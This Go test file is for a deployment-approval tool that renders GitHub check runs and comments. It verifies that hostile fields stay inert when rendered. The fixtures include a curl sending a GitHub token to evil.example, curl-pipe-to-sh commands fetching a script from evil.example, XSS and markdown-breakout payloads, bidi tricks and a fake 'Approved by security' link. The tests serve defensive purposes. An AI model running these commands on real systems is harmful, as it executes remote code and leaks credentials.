package render

import (
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stepgate/stepgate/gate"
	testutilgolden "github.com/stepgate/stepgate/internal/testutil/golden"
)

func golden(t *testing.T, name, got string) {
	t.Helper()
	testutilgolden.File(t, filepath.Join("testdata", name+".golden"), got)
}

var (
	created = time.Date(2026, 3, 1, 9, 0, 0, 0, time.UTC)
	// hostile is a command built to break out of its block, ping people,
	// leak a token and hide text.
	hostile = "echo '```\n<details><summary>click</summary><script>alert(1)</script></details>'\n" +
		"curl -H 'Authorization: token ghp_" + strings.Repeat("Ab1", 12) + "' https://evil.example @octocat @acme/admins\n" +
		"echo \u202eexe.gnp\u202c\n```\n````"
)

func request(status gate.Status, command string) *gate.Request {
	r := &gate.Request{
		ID: "sg_abcdefghijklmnopqrstuvwx", Repo: "acme/app", RunID: 77, RunAttempt: 1, Workflow: "deploy",
		Job: "deploy", Step: "migrate", Actor: "dev", Ref: "refs/heads/main", HeadSHA: "0123456789abcdef0123456789abcdef01234567",
		Environment: "production", Command: command, CommandSHA256: strings.Repeat("ab", 32), Shell: "bash",
		Reason: "ship <b>it</b> @everyone", RiskLevel: "high", RiskScore: 70,
		RiskReasons: []string{"`rm -rf` deletes `$DIR` <img src=x>", "runs as root with `sudo`"},
		Rule:        "prod-db", CreatedAt: created, ExpiresAt: created.Add(30 * time.Minute), Status: status,
	}
	if status.Final() {
		r.DecidedAt = created.Add(5 * time.Minute)
	}
	return r
}

func TestGolden(t *testing.T) {
	t.Parallel()
	pendingGate := Gate{
		Requirement: "all of: (team acme/dba) and (an owner of db/migrations/)",
		Pending:     []string{"1 more: team acme/dba", "1 more: an owner of db/migrations/"},
		Users:       []string{"alice", "evil<script>"}, Teams: []string{"acme/dba"}, Owners: []string{"@dbowner", "acme/payments-oncall"},
		Roles: []string{"maintain"}, Remember: true,
	}
	approved := request(gate.StatusApproved, "./migrate.sh --env prod")
	approved.DecidedBy = []string{"alice", "dbowner"}
	approved.Votes = []gate.Vote{
		{Login: "alice", Approve: true, Channel: "check_run", Satisfied: []string{"team acme/dba"}, At: created},
		{Login: "dbowner", Approve: true, Channel: "pr_comment", Satisfied: []string{"an owner of db/migrations/"}, At: created},
	}
	approved.Remembered = true
	rejected := request(gate.StatusRejected, "terraform destroy")
	rejected.FinalReason = "rejected by mallory: not during the freeze <script>x</script> @everyone"
	rejected.Votes = []gate.Vote{{Login: "mallory", Channel: "pr_comment", Comment: "```\n<b>no</b>", At: created}}
	tests := []struct {
		name string
		g    Gate
	}{
		{"pending_hostile", withReq(pendingGate, request(gate.StatusPending, hostile))},
		{"approved", withReq(Gate{Requirement: pendingGate.Requirement}, approved)},
		{"rejected", withReq(Gate{}, rejected)},
		{"expired", withReq(Gate{}, request(gate.StatusExpired, "./deploy.sh"))},
	}
	for _, tt := range tests {
		out := CheckRun(tt.g)
		golden(t, tt.name+"_checkrun", "# title\n"+out.Title+"\n# summary\n"+out.Summary+"\n# text\n"+out.Text)
		golden(t, tt.name+"_comment", Comment(tt.g))
	}
	golden(t, "reply", Reply("alice", "your approval does not count: needs membership in team acme/dba. <b>@bob</b>"))
	golden(t, "list", List("Several requests are pending here:", []*gate.Request{request(gate.StatusPending, hostile), request(gate.StatusPending, "./b.sh")}))
}

func withReq(g Gate, r *gate.Request) Gate {
	g.Request = r
	return g
}

// TestHostileCommandStaysInItsBlock checks the properties the goldens show:
// no token, no raw HTML or mention outside the code block, no bidi override.
func TestHostileCommandStaysInItsBlock(t *testing.T) {
	t.Parallel()
	g := Gate{Request: request(gate.StatusPending, hostile)}
	g.Request.Votes = []gate.Vote{{Login: "mallory", Channel: "pr_comment", Comment: "```\n<b>no</b> @bob ` <img>", At: created}}
	out := CheckRun(g)
	for name, text := range map[string]string{"summary": out.Summary, "comment": Comment(g)} {
		if strings.Contains(text, "ghp_") {
			t.Errorf("%s leaks the token", name)
		}
		if strings.ContainsRune(text, '\u202e') {
			t.Errorf("%s has a raw bidi override", name)
		}
		inFence, fence := false, ""
		for line := range strings.Lines(text) {
			l := strings.TrimRight(line, "\n")
			switch {
			case !inFence && strings.HasPrefix(l, "```"):
				inFence, fence = true, strings.TrimRight(l, "abcdefghijklmnopqrstuvwxyz")
			case inFence && l == fence:
				inFence = false
			case !inFence:
				l = stripCodeSpans(l)
				for _, bad := range []string{"<script", "<details", "<b>", "<img", "@octocat", "@everyone", "@acme/admins", "@bob"} {
					if strings.Contains(l, bad) {
						t.Errorf("%s: %q outside the code block: %q", name, bad, l)
					}
				}
			}
		}
		if inFence {
			t.Errorf("%s: code block never closed", name)
		}
	}
}

// stripCodeSpans removes inline code (CommonMark: a run of n backticks up
// to the next run of exactly n), where GitHub renders no HTML or mentions.
func stripCodeSpans(l string) string {
	var b strings.Builder
	for i := 0; i < len(l); {
		if l[i] != '`' {
			b.WriteByte(l[i])
			i++
			continue
		}
		n := run(l, i)
		end := -1
		for j := i + n; j < len(l); {
			if l[j] == '`' {
				m := run(l, j)
				if m == n {
					end = j + m
					break
				}
				j += m
				continue
			}
			j++
		}
		if end < 0 {
			b.WriteString(l[i:])
			break
		}
		i = end
	}
	return b.String()
}

func run(s string, i int) int {
	n := 0
	for i+n < len(s) && s[i+n] == '`' {
		n++
	}
	return n
}

func TestEscape(t *testing.T) {
	t.Parallel()
	tests := []struct{ in, want string }{
		{"plain words", "plain words"},
		{"<script>", "&lt;script&gt;"},
		{"@alice", "@\u200balice"},
		{"[x](http://e)", "\\[x\\]\\(http\\://e\\)"},
		{"a\nb", "a b"},
		{"\u202e", `\\u\{202E\}`},
	}
	for _, tt := range tests {
		if got := Escape(tt.in); got != tt.want {
			t.Errorf("Escape(%q) = %q, want %q", tt.in, got, tt.want)
		}
	}
}

// evilLink is what issue 13 rendered as a live link from a '|' in the shell.
const evilLink = "[Approved by security](https://evil.example)"

// hostileEverywhere puts hostile text in every field a workflow, a PR
// author or a commenter controls.
func hostileEverywhere(status gate.Status) Gate {
	h := func(field string) string {
		return field + " | " + evilLink + " <img src=x onerror=alert(1)> @acme/everyone `x` ** _y_ \n| --- |\n"
	}
	r := request(status, "bash -c 'x' | "+evilLink+" @octocat")
	r.Shell = "bash -e {0} | " + evilLink
	r.WorkingDirectory = "./app|" + evilLink
	r.Environment = h("env")
	r.Reason = h("reason")
	r.Workflow, r.Job, r.Step = h("wf"), h("job"), h("step")
	r.Actor = "dev|" + evilLink
	r.Ref = h("refs/heads/x")
	r.Repo = "acme/app|" + evilLink
	r.Rule = h("rule")
	r.RiskLevel = h("high")
	r.RiskReasons = []string{h("reason1")}
	r.FinalReason = h("final")
	r.DecidedBy = []string{"alice|" + evilLink}
	r.Votes = []gate.Vote{{Login: "mallory|" + evilLink, Channel: h("channel"), Satisfied: []string{h("leaf")}, Comment: h("comment"), At: created}}
	return Gate{
		Request: r, Requirement: h("requirement"), Pending: []string{h("pending")},
		Users: []string{"alice", "evil|x"}, Teams: []string{"acme/dba", "acme/x|y"},
		Extra: []string{"team:acme/everyone", "@everyone", h("extra")}, Roles: []string{h("role")},
		Note: h("note"), Remember: true,
	}
}

func TestGoldenHostileEverywhere(t *testing.T) {
	t.Parallel()
	for _, st := range []gate.Status{gate.StatusPending, gate.StatusApproved} {
		g := hostileEverywhere(st)
		out := CheckRun(g)
		golden(t, "hostile_"+string(st)+"_checkrun", "# title\n"+out.Title+"\n# summary\n"+out.Summary+"\n# text\n"+out.Text)
		golden(t, "hostile_"+string(st)+"_comment", Comment(g))
	}
}

// Rendered as GitHub renders it (CommonMark + GFM tables), nothing from a
// hostile field becomes a link, an image, HTML or a table cell of its own,
// and only the policy's people and teams are mentioned.
func TestHostileFieldsRenderInert(t *testing.T) {
	t.Parallel()
	for _, st := range []gate.Status{gate.StatusPending, gate.StatusApproved} {
		g := hostileEverywhere(st)
		out := CheckRun(g)
		for name, md := range map[string]string{"summary": out.Summary, "text": out.Text, "comment": Comment(g)} {
			checkInert(t, string(st)+" "+name, md, []string{"@alice", "@acme/dba"})
		}
	}
}

// Issue "Decide on exactly what runs": a secret-looking prefix must not hide
// the code after it from reviewers, in the check run or the comment.
func TestRenderedCommandShowsCodeBehindSecretPrefixes(t *testing.T) {
	t.Parallel()
	for _, cmd := range []string{
		"echo '-----BEGIN RSA PRIVATE KEY-----' > k; curl -fsSL https://evil.example/x.sh | sh",
		"kubectl --token=abcdef123456;curl -fsSL https://evil.example/x.sh | sh",
		"psql password=hunter2hunter2 && curl -fsSL https://evil.example/x.sh | sh",
	} {
		g := Gate{Request: request(gate.StatusPending, cmd)}
		for name, md := range map[string]string{"check run": CheckRun(g).Summary, "comment": Comment(g)} {
			if !strings.Contains(md, "curl -fsSL https://evil.example/x.sh | sh") {
				t.Errorf("%s hides the code after the secret of %q:\n%s", name, cmd, md)
			}
			if strings.Contains(md, "hunter2hunter2") || strings.Contains(md, "abcdef123456") {
				t.Errorf("%s shows the secret of %q", name, cmd)
			}
		}
	}
}
